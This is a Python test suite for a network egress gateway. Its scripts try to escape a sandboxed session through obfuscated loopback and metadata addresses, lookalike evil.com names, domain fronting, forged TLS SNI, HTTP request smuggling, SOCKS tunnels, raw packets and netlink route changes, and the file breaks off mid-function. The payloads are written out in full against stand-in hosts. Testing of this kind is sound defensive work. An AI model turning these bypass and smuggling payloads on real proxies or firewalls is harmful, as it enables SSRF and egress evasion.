#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
Attempts to get past the gateway, each from inside a session: spellings, names, fronting, smuggling, packets.

Whoever must not be reached is a victim that keeps every byte it hears (lib/victims.py). Each test looks at those
bytes and at the session's ledger.
"""
# timeout: 600
import contextlib
import json
import os
import pathlib
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
import net  # noqa: E402
import victims  # noqa: E402
from cordon import World, check, equal, main  # noqa: E402
from way_out import allow, denials, python, records  # noqa: E402

PORT = 8081
LOOPBACK = ["127.0.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "127.1", "127.0.1",
            "0", "0.0.0.0", "127.0.0.1.", "127.000.000.001", "::1", "::", "0:0:0:0:0:0:0:1", "::ffff:127.0.0.1",
            "::ffff:7f00:1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::",
            "2001:0:7f00:1::", "fe80::1%lo", "fe80::1%25lo", "fe80::5efe:7f00:1", "localhost", "localhost.",
            "LOCALHOST", "a.localhost", "ip6-localhost", "１２７.0.0.1", "127。0。0。1", "①②⑦.0.0.1"]
OWN = [net.HERE, "16909057", "0x1020301", "01.02.03.01", "1.131841", "1.2.769", f"::ffff:{net.HERE}", net.HERE_V6,
       "64:ff9b::102:301", "2002:102:301::", "fe80::1"]
OTHER = [net.OTHER_V4, "16909061", "0x1020305", "01.02.03.05", "1.2.773", "1.131845", f"::ffff:{net.OTHER_V4}",
         f"{net.OTHER_V4}.", "64:ff9b::102:305", "2002:102:305::", "10.0.0.1", "169.254.169.254", "metadata",
         "2852039166", "100.100.100.200", "fd00:ec2::254"]


def attack(w, script, *words, **more):
    return python(w, victims.TOOLS + script, *words, **more)


def refused(w, *wanted):
    """The ledger has a denial of each, and holds; and the gateway lived."""
    targets = {r["target"] for r in records(w, "denied") if "target" in r}
    check(set(wanted) <= targets, sorted(targets))
    equal(records(w, "gateway-lost"), [])
    w.cordon("audit", "verify")


EVERY_SPELLING = r"""
import json
for text in json.loads(sys.argv[1]):
    shown = f"[{text}]" if ":" in text else text
    for got in (tunnel(shown), absolute(shown), tunnel(text), absolute(text), socks_name(text), socks_name(shown)):
        if b"reached" in got: print("REACHED", text, got)
    for family in (socket.AF_INET, socket.AF_INET6):
        try: packed = socket.inet_pton(family, text)
        except (OSError, ValueError): continue
        direct = talk((text, 8081), b"GET /direct HTTP/1.1\r\nHost: x\r\n\r\n", family=family)
        for got in (socks_address(packed), direct):
            if b"reached" in got: print("REACHED", text, got)
    try: place = socket.getaddrinfo(text, 8081, type=socket.SOCK_STREAM)[0]
    except (OSError, UnicodeError): continue
    if place[4][0] not in ("127.0.0.1", "::1", "0.0.0.0", "::"):
        got = talk(place[4], b"GET /looked-up HTTP/1.1\r\nHost: x\r\n\r\n", family=place[0])
        if b"reached" in got: print("REACHED", text, got)
"""


def test_an_address_in_every_spelling(w: World):
    """Of the host's loopback, of its own addresses, of others that nobody named; by everything that takes a host."""
    allow(w, f"{net.V4}:*", "**.example.org:*")
    with victims.here(PORT) as home, victims.here(PORT, "::1") as home6, victims.there(PORT, net.OTHER_V4) as other:
        done = attack(w, EVERY_SPELLING, json.dumps([*LOOPBACK, *OWN, *OTHER]), timeout=300)
        equal(done.text, "")
        equal((home.heard, home6.heard, other.heard), ([], [], []))
    refused(w, f"127.0.0.1:{PORT}", f"{net.HERE}:{PORT}", f"{net.OTHER_V4}:{PORT}", f"::1:{PORT}")
    equal(records(w, "connection-allowed"), [])


def test_every_name_allowed_is_no_address_allowed(w: World):
    """The widest list that there is: each name of the world, at each port; and no name leads home."""
    allow(w, "**:*", broad=True)
    with victims.here(PORT) as home, victims.here(PORT, "::1") as home6:
        done = attack(w, EVERY_SPELLING, json.dumps([*LOOPBACK, *OWN]), timeout=300)
        equal(done.text, "")
        equal((home.heard, home6.heard), ([], []))
    refused(w, f"127.0.0.1:{PORT}", f"{net.HERE}:{PORT}")


NAMES_LIKE_IT = ["allowed.com.evil.com", "evilallowed.com", "allowed.com-evil.com", "allowed.comevil.com",
                 "allowed.com.evil.com.", "evil.com", "allowed.co", "llowed.com", "allowed.com..evil.com",
                 "sub.allowed.com.evil.com", "xn--allowed.com", "allоwed.com", "allowed.com.", ".allowed.com.evil.com"]


def test_a_name_that_looks_like_an_allowed_one(w: World):
    allow(w, f"allowed.com:{PORT}")
    del NAMES.asked[:]
    with victims.there(PORT, net.OTHER_V4) as other, victims.there(PORT) as good:
        script = r"""
import json
for name in json.loads(sys.argv[1]):
    for got in (tunnel(name), absolute(name), socks_name(name)): pass
    ask_name([l for l in name.encode().split(b".") if l])
assert b"reached" in tunnel("allowed.com", wait=60) and b"reached" in tunnel("ALLOWED.com", wait=60)
"""
        attack(w, script, json.dumps(NAMES_LIKE_IT), timeout=300)
        equal(other.heard, [])
        check(good.heard)
    equal({name for name, _ in NAMES.asked}, {"allowed.com"})
    equal({r["target"] for r in records(w, "connection-allowed")}, {"allowed.com"})
    refused(w, f"allowed.com.evil.com:{PORT}", f"evilallowed.com:{PORT}", "allowed.com.evil.com", "evil.com")


BYTES_IN_NAMES = r"""
bad = [b"allowed.com" + end for byte in (0, 10, 13, 32, 9, 11, 12, 0x7f, 0x80, 0xa0, 0xff)
       for end in (bytes([byte]), bytes([byte]) + b".evil.com", bytes([byte]) + b"evil.com")]
bad += [b"allowed.com" + end for end in (b"/.evil.com", b"\\.evil.com", b"#.evil.com", b"?.evil.com", b"%00.evil.com",
        b"%2eevil.com", b"%0d%0aHost: evil.com", b"\r\nHost: evil.com", b":8081@evil.com", b"@evil.com", b":x@evil.com",
        b";evil.com", b",evil.com", b"|evil.com", b"&evil.com", b"^evil.com")]
bad += [b"evil.com" + byte + b"allowed.com" for byte in (b"\0", b"\r", b"\n", b"\r\n", b" ", b"\t", b"@", b"%00", b"#")]
for name in bad:
    for got in (tunnel(name, wait=1), absolute(name, wait=1), socks_name(name, wait=1)):
        if b"reached" in got: print("REACHED", name, got)
# A label may hold any byte on the wire: a dot, a nul, all of the allowed name.
for labels in ([b"allowed.com", b"evil", b"com"], [b"allowed.com"], [b"allowed.com\0", b"evil", b"com"],
               [b"allowed", b"com\0"], [b"evil", b"com\0allowed", b"com"], [b"allowed", b"com "],
               [b"allowed\r\n", b"com"], [b"\xffallowed", b"com"]):
    for kind in (1, 28, 16, 255):
        if ask_name(labels, kind) == 0: print("ANSWERED", labels, kind)
"""


def test_bytes_that_no_name_has(w: World):
    allow(w, f"allowed.com:{PORT}")
    del NAMES.asked[:]
    with victims.there(PORT, net.OTHER_V4) as other, victims.there(PORT) as good:
        done = attack(w, BYTES_IN_NAMES + "\nassert ask_name([b'evil', b'com']) == 3\n", timeout=400)
        equal(done.text, "")
        equal((other.heard, good.heard), ([], []))
    equal(NAMES.asked, [])
    equal(records(w, "connection-allowed"), [])
    refused(w, "evil.com")


FRONTING = r"""
def request(target, *hosts, place=PROXY, more=b""):
    fields = b"".join(b"Host: " + h + b"\r\n" for h in hosts)
    return talk(place, b"GET " + target + b" HTTP/1.1\r\n" + fields + more + b"\r\n")
front, evil = b"front.example.org", b"evil.example.org"
inside = lambda *parts: talk(PROXY, connect_head(front, 80), *parts)
attempts = {
    "host": request(b"http://front.example.org/fronted", evil),
    "host with a port": request(b"http://front.example.org/fronted", front + b":81"),
    "two hosts": request(b"http://front.example.org/fronted", front, evil),
    "no host": request(b"http://front.example.org/fronted"),
    "host in a list": request(b"http://front.example.org/fronted", front + b", " + evil),
    "evil": request(b"http://evil.example.org/fronted", evil),
    "absolute": request(b"http://evil.example.org/fronted", front),
    "directly": request(b"/fronted", evil, place=("front.example.org", 80)),
    "directly, absolute": request(b"http://evil.example.org/fronted", front, place=("front.example.org", 80)),
    "directly, both": request(b"http://evil.example.org/fronted", evil, place=("front.example.org", 80)),
    "userinfo": request(b"http://front.example.org@evil.example.org/fronted", evil),
    "userinfo, other way": request(b"http://evil.example.org@front.example.org/fronted", front),
    "tunnel": inside(b"GET /fronted HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"),
    "tunnel, absolute": inside(b"GET http://evil.example.org/fronted HTTP/1.1\r\nHost: front.example.org\r\n\r\n"),
    "tunnel, second": inside(b"GET /first HTTP/1.1\r\nHost: front.example.org\r\n\r\n"
                             b"GET /fronted HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"),
    "connect of two": talk(PROXY, b"CONNECT front.example.org:80 HTTP/1.1\r\nHost: evil.example.org:80\r\n\r\n",
                           b"GET /fronted HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"),
    "forwarded": request(b"http://front.example.org/plain", front, more=b"X-Forwarded-Host: evil.example.org\r\n"),
    "obs-fold": request(b"http://front.example.org/fronted", front + b"\r\n evil.example.org"),
    "space": talk(PROXY, b"GET http://front.example.org/fronted HTTP/1.1\r\nHost : evil.example.org\r\n\r\n"),
    "wrong order": talk(PROXY, b"GET http://front.example.org/fronted HTTP/1.1\r\n Host: evil.example.org\r\n\r\n"),
}
for name, got in attempts.items():
    if b"reached" in got and name not in ("forwarded", "tunnel, second"): print("REACHED", name, got)
"""


def test_a_front_and_who_stands_behind_it(w: World):
    allow(w, "front.example.org:80")
    with victims.there(80) as front, victims.there(80, net.OTHER_V4) as evil:
        done = attack(w, FRONTING)
        equal(done.text, "")
        equal(evil.heard, [])
        check(b"/fronted" not in front.bytes and b"\r\nHost: evil" not in front.bytes, front.heard)
        check(b"GET /plain" in front.bytes and b"GET /first" in front.bytes, front.heard)
    check(any(d["rule"] == "network/host" for d in denials(w)), denials(w))
    refused(w, "evil.example.org:80")


HELLO = r"""
def extension(kind, data): return struct.pack(">HH", kind, len(data)) + data
def names(*hosts, kind=0):
    items = b"".join(bytes([kind]) + struct.pack(">H", len(h)) + h for h in hosts)
    return extension(0, struct.pack(">H", len(items)) + items)
def hello(*extensions, version=b"\x03\x03"):
    exts = b"".join(extensions) + extension(43, b"\x02\x03\x04") + extension(10, b"\0\x02\0\x1d")
    body = version + bytes(32) + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + struct.pack(">H", len(exts)) + exts
    return b"\x01" + struct.pack(">I", len(body))[1:] + body
def records_of(message, *sizes):
    out = b""
    for size in [*sizes, len(message)]:
        part, message = message[:size], message[size:]
        if part: out += b"\x16\x03\x01" + struct.pack(">H", len(part)) + part
    return out
grease = extension(0x0a0a, b"") + extension(0xfafa, b"\0")
padding = extension(21, bytes(9000))
"""

SNI = HELLO + r"""
import json
front, evil = b"front.example.org", b"evil.example.org"
bad = {
    "another": [records_of(hello(names(evil)))],
    "two in one list": [records_of(hello(names(front, evil)))],
    "two, other order": [records_of(hello(names(evil, front)))],
    "two lists": [records_of(hello(names(front), names(evil)))],
    "another kind in front": [records_of(hello(names(evil, kind=1)))],
    "none": [records_of(hello())],
    "an empty one": [records_of(hello(names(b"")))],
    "dot at the end": [records_of(hello(names(evil + b".")))],
    "nul": [records_of(hello(names(front + b"\0.evil.example.org")))],
    "an address": [records_of(hello(names(b"1.2.3.5")))],
    "grease": [records_of(hello(grease, names(evil), padding))],
    "many records": [records_of(hello(names(evil)), *[1] * 20)],
    "split in the name": [records_of(hello(names(evil)))[:70], records_of(hello(names(evil)))[70:]],
    "byte by byte": [records_of(hello(names(evil)))[i:i + 1] for i in range(len(records_of(hello(names(evil)))))],
    "encrypted": [records_of(hello(names(front), extension(0xfe0d, b"\0" * 40)))],
    "old encrypted": [records_of(hello(names(front), extension(0xffce, b"\0" * 40)))],
    "another record first": [b"\x15\x03\x01\0\x02\x01\0" + records_of(hello(names(evil)))],
    "a hello of version 2": [b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + bytes(40)],
    "what is no TLS": [b"GET /fronted HTTP/1.1\r\nHost: front.example.org\r\n\r\n"],
    "a length that lies": [b"\x16\x03\x01\xff\xff" + hello(names(front))],
    "two hellos": [records_of(hello(names(evil)) + hello(names(front)))],
}
good = {
    "plain": [records_of(hello(names(front)))],
    "big letters": [records_of(hello(names(b"Front.Example.ORG")))],
    "many records": [records_of(hello(grease, names(front), padding), *[7] * 60)],
    "slowly": [records_of(hello(names(front)))[a:b] for a, b in ((0, 30), (30, 90), (90, 999))],
}
ways = {"transparent": lambda parts: talk(("front.example.org", 443), *parts, wait=1, pause=0.01),
        "tunnel": lambda parts: talk(PROXY, connect_head(front, 443), *parts, wait=1, pause=0.03)}
which = sys.argv[1]
for way in ways.values():
    for name, parts in {"bad": bad, "good": good}[which].items():
        way(parts)
"""


def test_the_name_in_a_tls_hello(w: World):
    allow(w, "front.example.org")
    with victims.there(443) as front, victims.there(443, net.OTHER_V4) as evil:
        attack(w, SNI, "bad", timeout=300)
        equal((front.bytes, evil.heard), (b"", []))
        check(len([d for d in denials(w) if d["rule"] == "network/tls"]) >= 8, denials(w))
        refused(w, "front.example.org:443")
        # The same with the right name passes, byte for byte, however it is cut.
        attack(w, SNI, "good")
        equal(len([h for h in front.heard if h[:1] == b"\x16"]), 8, front.heard)


SMUGGLED_TUNNELS = r"""
get = b"GET /smuggled HTTP/1.1\r\nHost: front.example.org\r\n\r\n"
head = connect_head("front.example.org", 8081)
connect_to = lambda target: talk(PROXY, b"CONNECT " + target + b" HTTP/1.1\r\nHost: front.example.org\r\n\r\n", get)
asked = b"\x05\x01\x00\x03\x11front.example.org\x1f\x91"
attempts = {
    "bytes behind the head": talk(PROXY, head + get),
    "a body": talk(PROXY, head[:-2] + b"Content-Length: %d\r\n\r\n" % len(get) + get),
    "a body in chunks": talk(PROXY, head[:-2] + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(get) + get +
                             b"\r\n0\r\n\r\n"),
    "a tunnel in a tunnel of HTTP": talk(PROXY, connect_head("front.example.org", 80),
                                         connect_head("evil.example.org", 80), get),
    "the gateway itself": talk(PROXY, connect_head("127.0.0.1", 3128), connect_head("evil.example.org", 8081), get),
    "the gateway itself, other port": talk(PROXY, connect_head("[::1]", 3129), get),
    "after a denied one": talk(PROXY, connect_head("evil.example.org", 8081), get, head, get),
    "after a denied one, at once": talk(PROXY, connect_head("evil.example.org", 8081) + head + get),
    "a request before": talk(PROXY, b"GET http://evil.example.org:8081/smuggled HTTP/1.1\r\n"
                             b"Host: evil.example.org:8081\r\n\r\n" + head + get),
    "without a port": connect_to(b"front.example.org"),
    "a path": connect_to(b"front.example.org:8081/"),
    "a scheme": connect_to(b"http://front.example.org:8081"),
    "port 0": talk(PROXY, connect_head("front.example.org", 0), get),
    "port 65536": talk(PROXY, connect_head("front.example.org", 65536 + 8081), get),
    "port +": connect_to(b"front.example.org:+8081"),
    "SOCKS, ahead": talk(PROXY, b"\x05\x01\x00" + asked + get),
    "SOCKS 4": talk(PROXY, b"\x04\x01\x1f\x91\x01\x02\x03\x05\0" + get),
    "SOCKS 4a": talk(PROXY, b"\x04\x01\x1f\x91\0\0\0\x01\0evil.example.org\0" + get),
    "SOCKS, bind": talk(PROXY, b"\x05\x01\x00", b"\x05\x02\x00\x03\x11front.example.org\x1f\x91"),
    "SOCKS, UDP": talk(PROXY, b"\x05\x01\x00", b"\x05\x03\x00\x01\0\0\0\0\0\0"),
    "SOCKS, with a password": talk(PROXY, b"\x05\x01\x02", b"\x01\x01a\x01b", asked, get),
}
for name, got in attempts.items():
    if b"reached" in got: print("REACHED", name, got)
"""


def test_tunnels_that_carry_more_than_they_say(w: World):
    allow(w, f"front.example.org:{PORT}", "front.example.org:80")
    with victims.there(PORT) as front, victims.there(80) as web, victims.there(PORT, net.OTHER_V4) as evil:
        done = attack(w, SMUGGLED_TUNNELS, timeout=300)
        equal(done.text, "")
        check(b"smuggled" not in front.bytes + web.bytes, front.heard, web.heard)
        equal(evil.heard, [])
    refused(w, f"evil.example.org:{PORT}", "127.0.0.1:3128", "::1:3129")


SMUGGLED = r"""
H = b" HTTP/1.1\r\nHost: front.example.org\r\n"
EVIL = b"GET /smuggled HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
CHUNKS = b"0\r\n\r\n"
def post(fields, body): return b"POST /sent" + H + fields + b"\r\n" + body
attempts = {
    "CL.TE": post(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", CHUNKS + EVIL),
    "TE.CL": post(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", b"5c\r\n" + EVIL + CHUNKS),
    "CL.CL": post(b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(EVIL), EVIL),
    "CL list": post(b"Content-Length: 0, %d\r\n" % len(EVIL), EVIL),
    "CL the same twice, in a list": post(b"Content-Length: 3, 3\r\n", b"abc"),
    "CL +": post(b"Content-Length: +0\r\n", EVIL),
    "CL -": post(b"Content-Length: -1\r\n", EVIL),
    "CL hex": post(b"Content-Length: 0x10\r\n", EVIL),
    "CL space": post(b"Content-Length: 0 5\r\n", EVIL),
    "CL empty": post(b"Content-Length: \r\n", EVIL),
    "CL too large": post(b"Content-Length: 18446744073709551616\r\n", EVIL),
    "obs-fold": post(b"X: y\r\n Transfer-Encoding: chunked\r\n", CHUNKS + EVIL),
    "obs-fold of TE": post(b"Transfer-Encoding:\r\n chunked\r\n", CHUNKS + EVIL),
    "bare LF": b"POST /sent HTTP/1.1\nHost: front.example.org\nContent-Length: 0\n\n" + EVIL,
    "bare LF in a field": post(b"X: y\nTransfer-Encoding: chunked\r\n", CHUNKS + EVIL),
    "bare CR": post(b"X: y\rTransfer-Encoding: chunked\r\n", CHUNKS + EVIL),
    "nul": post(b"X: y\0z\r\n", b""),
    "space before a colon": post(b"Transfer-Encoding : chunked\r\n", CHUNKS + EVIL),
    "space in a name": post(b"Transfer Encoding: chunked\r\n", CHUNKS + EVIL),
    "no colon": post(b"Transfer-Encoding chunked\r\n", CHUNKS + EVIL),
    "chunk size 0x": post(b"Transfer-Encoding: chunked\r\n", b"0x0\r\n\r\n" + EVIL),
    "chunk size -": post(b"Transfer-Encoding: chunked\r\n", b"-1\r\n\r\n" + EVIL),
    "chunk size too large": post(b"Transfer-Encoding: chunked\r\n", b"10000000000000000\r\n" + EVIL),
    "chunk end LF": post(b"Transfer-Encoding: chunked\r\n", b"3\nabc\n0\n\n" + EVIL),
    "chunk longer than it says": post(b"Transfer-Encoding: chunked\r\n", b"3\r\nabcdef\r\n0\r\n\r\n" + EVIL),
    "HTTP/1.0 and chunks": post(b"Transfer-Encoding: chunked\r\n", CHUNKS + EVIL).replace(b"/1.1", b"/1.0", 1),
    "HTTP/0.9": b"GET /smuggled\r\n",
    "HTTP/1.2": b"GET /smuggled HTTP/1.2\r\nHost: front.example.org\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + EVIL,
    "h2c": b"GET /sent" + H + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAARAAAAA\r\n\r\n" + EVIL,
    "h2c, and its preface": b"GET /sent" + H + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAARAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + EVIL,
    "h2c, hidden": b"GET /smuggled" + H + b"Connection: HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAARAAAAA\r\n\r\n" + EVIL,
    "h2c, with a WebSocket": b"GET /smuggled" + H + b"Connection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: websocket, h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAA\r\n\r\n" + EVIL,
    "websocket with a body": post(b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 0\r\n", EVIL),
    "expect": post(b"Expect: 100-continue, x\r\nContent-Length: 0\r\n", EVIL),
}
codings = (b"xchunked", b" chunked", b"chunked, identity", b"identity, chunked", b"chunked, chunked", b"gzip, chunked",
           b"chunked;x=1", b"\x0bchunked", b"chunke\x00d", b"\"chunked\"", b"Chunked\t", b"identity")
for number, coding in enumerate(codings):
    coding = b"Transfer-Encoding: " + coding + b"\r\n"
    attempts[f"TE.TE {number}"] = post(b"Content-Length: 5\r\n" + coding, CHUNKS + EVIL)
    attempts[f"TE twice {number}"] = post(b"Transfer-Encoding: x\r\n" + coding, CHUNKS + EVIL)
for name, attempt in attempts.items():
    absolute_form = attempt.replace(b" /", b" http://front.example.org/", 1) if b" /" in attempt[:20] else attempt
    for got in (talk(PROXY, absolute_form, wait=0.5), talk(("front.example.org", 80), attempt, wait=0.5)):
        if got.count(b"reached") > 1: print("TWICE", name, got)
"""


def test_requests_that_two_readers_read_differently(w: World):
    """The victim takes a head wherever one begins, as the worst of servers would: the hidden request is never there."""
    allow(w, "front.example.org:80")
    with victims.there(80) as front, victims.there(80, net.OTHER_V4) as evil:
        done = attack(w, SMUGGLED, timeout=400)
        equal(done.text, "")
        for word in (b"smuggled", b"h2c", b"HTTP2-Settings", b"PRI "):
            check(word not in front.bytes, [h for h in front.heard if word in h])
        equal(evil.heard, [])
        # What has one meaning arrives.
        front.forget()
        attack(w, r"""
talk(("front.example.org", 80), b"POST /fine HTTP/1.1\r\nHost: front.example.org\r\nTransfer-Encoding: chunked\r\n\r\n"
     b"3;a=b\r\nabc\r\n0\r\n\r\n")
talk(("front.example.org", 80), b"POST /none HTTP/1.1\r\nHost: front.example.org\r\nContent-Length: 0\r\n\r\n"
     b"GET /next HTTP/1.1\r\nHost: front.example.org\r\n\r\n", wait=1)
""")
        check(b"POST /none" in front.bytes, front.heard)
    check(records(w, "connection-allowed"))


URGENT = r"""
import time
def speak(s):
    s.sendall(b"AAAA"); time.sleep(0.2)
    s.send(b"X", socket.MSG_OOB); s.sendall(b"BBBB"); time.sleep(float(sys.argv[1]))
    s.send(b"Y", socket.MSG_OOB); s.sendall(b"DDDD"); time.sleep(0.2)
    s.close()
speak(socket.create_connection(("front.example.org", 8081)))
s = socket.create_connection(PROXY)
s.sendall(connect_head("front.example.org", 8081))
assert b" 200 " in s.recv(4096)
speak(s)
s = socket.create_connection(("front.example.org", 8082)); s.settimeout(2)
got = b""
try:
    while data := s.recv(100): got += data
except TimeoutError: pass
print("HEARD", got)
"""


def speak_urgently(client):
    client.sendall(b"AAAA")
    time.sleep(0.2)
    client.send(b"X", socket.MSG_OOB)
    client.sendall(b"BBBB")
    client.recv(1)


def ticks(name):
    """Processor time of all programs that are called so, in hundredths of a second."""
    sums = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            text = pathlib.Path(f"/proc/{pid}/stat").read_text(encoding="utf-8", errors="replace")
            if text.split("(", 1)[1].startswith(name):
                sums += sum(map(int, text.rsplit(")", 1)[1].split()[11:13]))
    return sums


def test_a_byte_that_is_urgent_is_no_second_stream(w: World):
    """
    One that is read past when it is looked at, and goes on with the others once another one is urgent; or stops what
    moves the bytes, which then asks for them without end.
    """
    allow(w, f"front.example.org:{PORT}", "front.example.org:8082")
    with net.outside():
        server = socket.create_server((net.V4, 8082))
    most = []

    def serve():
        with contextlib.suppress(OSError), server.accept()[0] as client:
            speak_urgently(client)

    def look():
        while not over.wait(0.05):
            most.append(ticks("cordon-gateway"))

    over, threads = threading.Event(), []
    with victims.there(PORT) as front:
        for function in (serve, look):
            threads.append(threading.Thread(target=function, daemon=True))
            threads[-1].start()
        done = attack(w, URGENT, "1.5")
        over.set()
        equal((front.heard, done.text), ([b"AAAA"] * 2, "HEARD b'AAAA'\n"))
    for thread in threads:
        thread.join()
    server.close()
    equal(sorted(c["sent_bytes"] for c in records(w, "connection-closed")), [0, 4, 4])
    check(max(most) < 80, f"the gateway took {max(most)} hundredths of a second")


PACKETS = r"""
def tried(name, what):
    try: print(name, what())
    except OSError as e: print(name, type(e).__name__, e.errno)
magic = b"cordon-attack"
def udp(place, family=socket.AF_INET, option=None):
    s = socket.socket(family, socket.SOCK_DGRAM)
    if option: s.setsockopt(*option)
    return s.sendto(magic, place)
def tcp(place, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2); s.connect(place); s.sendall(magic)
    return s.recv(10)
def raw(family, kind, protocol, place):
    return socket.socket(family, kind, protocol).sendto(b"\x08\0\xf7\xff\0\0\0\0" + magic, place)
for place in ("1.2.3.4", "1.2.3.5", "8.8.8.8", "255.255.255.255", "224.0.0.251", "1.2.3.255"):
    tried("udp " + place, lambda: udp((place, 4711)))
    tried("tcp " + place, lambda: tcp((place, 4711)))
    tried("ping " + place, lambda: raw(socket.AF_INET, socket.SOCK_DGRAM, 1, (place, 0)))
    tried("icmp " + place, lambda: raw(socket.AF_INET, socket.SOCK_RAW, 1, (place, 0)))
tried("broadcast", lambda: udp(("1.2.3.255", 4711), option=(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)))
tried("multicast", lambda: udp(("224.0.0.1", 4711), option=(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 9)))
for place in (("2a00:1234::4", 4711), ("fe80::1", 4711, 0, 1), ("ff02::1", 4711, 0, 1), ("2001:4860:4860::8888", 4711)):
    tried("udp6 " + place[0], lambda: udp(place, socket.AF_INET6))
    tried("tcp6 " + place[0], lambda: tcp(place, socket.AF_INET6))
    tried("ping6 " + place[0], lambda: raw(socket.AF_INET6, socket.SOCK_DGRAM, 58, place[:1] + (0,) + place[2:]))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).bind(("lo", 0)))
tried("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("1.2.3.4", 4711)))
tried("dccp", lambda: socket.socket(socket.AF_INET, 6, 33).connect(("1.2.3.4", 4711)))
tried("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 4711)))
tried("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1))
tried("mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("1.2.3.4", 4711)))
"""


def test_packets_that_go_past_the_gateway(w: World):
    """UDP, pings, raw and packet sockets, broadcast and multicast, link-local: not one packet comes to the cable."""
    allow(w, "**.example.org:*")
    sniffer = victims.Sniffer()
    with victims.there(4711) as there, victims.here(4711) as home:
        done = attack(w, PACKETS)
        equal((there.heard, home.heard), ([], []))
    # Something that is heard for certain is the last that can come.
    socket.create_connection((net.V4, MARKED)).close()
    while not sniffer.to_port(MARKED):
        pass
    equal((sniffer.having(b"cordon-attack"), sniffer.to_port(4711), sniffer.echoes()), ([], [], []), done)
    sniffer.close()
    check("packet PermissionError" in done.text or "packet OSError" in done.text, done)
    refused(w, "1.2.3.4:4711", "8.8.8.8:4711", "2a00:1234::4:4711")


NETLINK = r"""
import os, ctypes
def tried(name, what):
    try: what(); print("DONE", name)
    except (OSError, PermissionError) as e: print("no", name)
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    if libc.syscall(number, *args) < 0: raise OSError(ctypes.get_errno(), "call")
tried("user namespace", lambda: call(272, 0x10000000))
tried("network namespace", lambda: call(272, 0x40000000))
tried("both", lambda: call(272, 0x50000000))
tried("clone3", lambda: call(435, 0, 0))
tried("another's namespace", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
def message(protocol, kind, flags, body):
    s = socket.socket(16, socket.SOCK_RAW, protocol); s.settimeout(2)
    s.sendto(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body, (0, 0))
    error = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if error: raise OSError(-error, "netlink")
local = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 4, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
tried("delete the route", lambda: message(0, 25, 0, local))
tried("another route", lambda: message(0, 24, 0x400, local))
address = struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([9, 9, 9, 9]))
tried("an address", lambda: message(0, 20, 0x400, address))
tried("an interface", lambda: message(0, 16, 0x400, bytes(16) + struct.pack("=HH4s", 8, 3, b"new\0")))
table = bytes([2, 0, 0, 0]) + struct.pack("=HH8s", 11, 1, b"cordon\0\0")
tried("delete the table", lambda: message(12, 0xa02, 0, table))
tried("a mark", lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1))
tried("transparent", lambda: socket.socket().setsockopt(socket.IPPROTO_IP, 19, 1))
tried("a device", lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 25, b"cable\0"))
for key in ("net/ipv4/ip_forward", "net/ipv4/conf/lo/route_localnet", "net/ipv4/ip_unprivileged_port_start"):
    tried(key, lambda: open("/proc/sys/" + key, "w").write("1"))
tried("tun", lambda: os.open("/dev/net/tun", os.O_RDWR))
got = tunnel("front.example.org", wait=60); print("allowed", b"reached" in got)
got = talk(("1.2.3.5", 8081), b"GET / HTTP/1.1\r\n\r\n"); print("evil", b"reached" in got)
"""


def test_routes_and_rules_stay_what_they_are(w: World):
    allow(w, f"front.example.org:{PORT}")
    with victims.there(PORT), victims.there(PORT, net.OTHER_V4) as evil:
        done = attack(w, NETLINK)
        check("DONE" not in done.text and "allowed True\nevil False" in done.text, done)
        equal(evil.heard, [])
    refused(w, f"{net.OTHER_V4}:{PORT}")
    check(any("target" not in r for r in records(w, "denied")), "no system call is on record", records(w, "denied"))


LISTENING = r"""
import threading
def serve(place, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try: s.bind(place)
    except OSError as e: return e.errno
    if kind == socket.SOCK_STREAM:
        try: s.listen()
